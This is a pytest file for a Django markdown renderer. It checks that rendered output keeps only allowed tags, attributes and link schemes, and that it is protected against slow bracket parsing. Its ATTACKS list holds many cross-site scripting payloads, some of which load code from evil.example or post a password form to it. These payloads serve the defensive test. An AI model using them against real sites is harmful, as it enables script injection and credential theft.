import re
from html.parser import HTMLParser

import pytest
from django.utils.html import escape
from markdown.inlinepatterns import LinkInlineProcessor

from incidents.markdown import bounded_links, render
from lessons.models import Lesson
from tests.factories import make_incident

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<div id=main class=masthead>x</div>",
    "<a id=q name=q href=#>x</a>",
    "<sup data-cite='\"><script>alert(1)</script>'></sup>",
    "<sup data-cite='aws' onmouseover=alert(1)></sup>",
    '[@aws"><script>alert(1)</script>]',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "<p>" * 3000,
]
ALLOWED = {
    "p",
    "a",
    "code",
    "pre",
    "div",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "li",
    "ul",
    "input",
    "br",
}


class Tags(HTMLParser):
    """Every opening tag that a browser would find, with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_string_leaves_anything_that_acts(attack):
    html = render(attack)

    for name, attributes in Tags(html).found:
        assert name in ALLOWED
        assert set(attributes) <= {"class", "title", "href", "rel", "data-cite", "type", "disabled", "checked", "start"}
        assert not re.match(r"\s*(javascript|vbscript|data)", attributes.get("href") or "", re.IGNORECASE)
        assert name != "input" or (attributes["type"], attributes["disabled"]) == ("checkbox", "")
        assert re.fullmatch(r"[a-z0-9 -]*", attributes.get("data-cite", ""))
        assert all(name == "codehilite" or len(name) < 3 for name in (attributes.get("class") or "").split())


def test_a_writer_has_lists_tables_code_and_links():
    html = render(
        "1. one\n2. two\n\n| a | b |\n|---|---|\n| c | d |\n\n`code` and <https://example.com/>"
        "\n\n```python\nx = 1\n```"
    )

    for piece in ("<ol>", "<td>c</td>", "<code>code</code>", 'href="https://example.com/"', "codehilite"):
        assert piece in html


def test_headings_in_a_text_stand_below_those_of_the_page():
    assert render("# One\n\n#### Four") == "<h3>One</h3>\n<h4>Four</h4>"


def test_a_picture_becomes_a_link_so_that_nothing_is_loaded_from_elsewhere():
    html = render("![the graph](https://example.com/graph.png)")

    assert "<img" not in html
    assert 'href="https://example.com/graph.png"' in html
    assert "the graph" in html


def test_what_is_nested_too_deeply_is_shown_as_it_was_written():
    deep = "\n".join("    " * depth + "- <b>" for depth in range(300))

    assert render(deep) == f"<pre>{escape(deep)}</pre>"
    assert "<dl>" in render("term\n: what it means\n" * 50)


@pytest.mark.parametrize("piece", ["[", "[[", "![", "[@a", "[[a]", "[[a|", "\\[[", "[a](", "[a](b'c) "])
def test_brackets_that_lead_nowhere_are_not_followed_over_and_over(monkeypatch, piece):
    steps = []

    def counted(search):
        def look(self, data, index):
            steps.append(len(data) - index)
            return search(self, data, index)

        return look

    for name in ("getText", "getLink"):
        monkeypatch.setattr(LinkInlineProcessor, name, counted(getattr(LinkInlineProcessor, name)))
    render(piece * 1_000 + "\n\n" + "words " * 1_000)

    assert max(steps) <= bounded_links.LONGEST
    text = piece * (20_000 // len(piece))
    steps.clear()
    render(text)
    assert sum(steps) < len(text) ** 2 / 8


def test_a_long_text_keeps_all_its_links():
    html = render("An [open bracket, a [link [in] it](https://example.com/a_(b) 'c') and one more.\n\n" * 2_000)

    assert html.count('<a href="https://example.com/a_(b)"') == 2_000


def test_links_out_pass_on_no_trust():
    assert 'rel="nofollow noopener noreferrer"' in render("[x](https://example.com/)")


@pytest.mark.django_db
def test_html_is_written_with_its_markdown_even_when_only_that_field_is_saved():
    incident = make_incident(narrative="*before*")
    incident.narrative = "*after*"
    incident.save(update_fields=["narrative"])
    incident.refresh_from_db()

    assert incident.narrative_html == "<p><em>after</em></p>"


@pytest.mark.django_db
def test_html_follows_when_rows_are_made_in_bulk():
    lesson = Lesson.objects.bulk_create([Lesson(slug="a", name="A", statement="Do.", why="*why*")])[0]

    assert Lesson.objects.values_list("why_html", flat=True).get(pk=lesson.pk) == "<p><em>why</em></p>"
